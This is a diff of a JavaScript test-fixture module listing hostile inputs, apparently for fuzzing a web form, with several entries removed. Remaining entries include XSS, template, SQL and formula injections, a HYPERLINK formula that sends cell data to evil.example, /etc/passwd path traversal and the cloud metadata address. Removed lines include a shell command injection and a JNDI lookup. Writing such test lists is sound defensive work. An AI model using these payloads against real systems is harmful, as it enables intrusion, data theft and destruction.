@@ -3,17 +3,12 @@ const run = 'globalThis.hostile=1';
 
 export const markup = {
   script: `<script>${run}</script>`,
-  'script in an attribute': `"><script>${run}</script>`,
   'end of a data block': `</script><script>${run}</script>`,
   'end of a text area': `</textarea></title></style><img src=x onerror=${run}>`,
   'broken picture': `<img src=x onerror="${run}">`,
   drawing: `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
   'frame with its own document': `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
-  'style sheet': '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
-  'other base': `<base href="//evil.example/"><meta http-equiv=refresh content="0;javascript:${run}">`,
-  comment: `<!--><img src=x onerror=${run}>-->`,
   'script address': `javascript:${run}//`,
-  'hidden script address': `java\tscript:${run}//`,
   'data address': `data:text/html,<script>${run}</script>`,
   entities: '&lt;b&gt; &amp;amp; &#60;script&#62;',
 };
@@ -22,29 +17,21 @@ export const templates = {
   'curly braces': '{{constructor.constructor("hostile=1")()}}',
   'template string': '${globalThis.hostile=1} `${7*7}` #{7*7} <%= 7*7 %>',
   'replacement pattern': "$& $1 $` $' $$ \\1 %s %n %x {0}",
-  'shell command': '$(touch /tmp/hostile); `id` | id && id #',
   'quoted SQL': '\'; drop table contact_submissions; -- " ) or 1=1 /* */',
-  'log lookup': '${jndi:ldap://evil.example/a}',
   'head of a mail': 'a\r\nBcc: everybody@example.com\r\n\r\nText',
 };
 
 export const formulas = {
   sum: '=1+1+cmd|\' /C calc\'!A0 ("x")',
-  plus: '+1+1+1+1+1+1',
   minus: '-1+1+1+1+1+1',
-  at: '@SUM(1+1)*cmd',
   link: '=HYPERLINK("http://evil.example?"&A1,"open me")',
   'behind a tab': '\t=1+1+1+1+1+1',
-  'behind a mark': '\u200b=1+1+1+1+1+1',
   'full width': '＝1+1+1+1+1+1',
 };
 
 export const names = {
   prototype: '__proto__ constructor',
-  nothing: 'null undefined NaN',
-  truth: 'true false [object Object]',
   number: '1e309 -0 0x10 9007199254740993',
-  'JSON text': '{"__proto__":{"hostile":1}}',
   path: '../../../../etc/passwd%00.pdf',
   address: 'http://169.254.169.254/latest/meta-data',
 };
@@ -59,8 +46,6 @@ export const letters = {
   'without ink': '\u3164\u2800\u115f\u1160\u3164\u2800\u3164\u2800\u3164\u2800\u3164',
   'other spaces': '\u00a0a\u2003b\u2028c\u2029d\u3000e and more\u00a0',
   'beyond the first plane': '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𐐀𐐨 🇳🇬🇬🇭 and more',
-  'private and last': '\ue000 \ufffd \uffff \u{10ffff} and more',
-  'one long letter': '﷽'.repeat(20),
   'letters that grow': 'İıßẞŉǰΐΰ ﬀﬃ ΟΔΥΣΣΕΥΣ',
 };
 
@@ -69,7 +54,6 @@ export const long = {
   'two hundred letters': 'm'.repeat(200),
   'five thousand letters': 'w'.repeat(5000),
   'ten thousand letters': 'w'.repeat(10_000),
-  'many lines': 'a line\n'.repeat(700),
   'a megabyte': 'lorem ipsum '.repeat(87_382),
 };
 
@@ -77,11 +61,7 @@ export const filters = {
   wildcards: '%_*?\\ %% __ ** \\\\',
   'like pattern': '*.*,id.neq.0',
   'or group': ',or(id.not.is.null),and(',
-  'list ends': '"),(")){}{"',
-  'array ends': '{a,"b\\"}',
   operators: 'eq.1 is.null in.(1,2) fts.x not.eq.x',
-  'other columns': '&select=*&status=eq.new&limit=1000',
-  'percent signs': '%00 %25 %E0%A4%A %2e%2e%2f',
   'regular expression': '***= (a+)+$ [[:alpha:] (?=x',
   'endless match': `${'(a*)*'.repeat(10)}!`,
 };
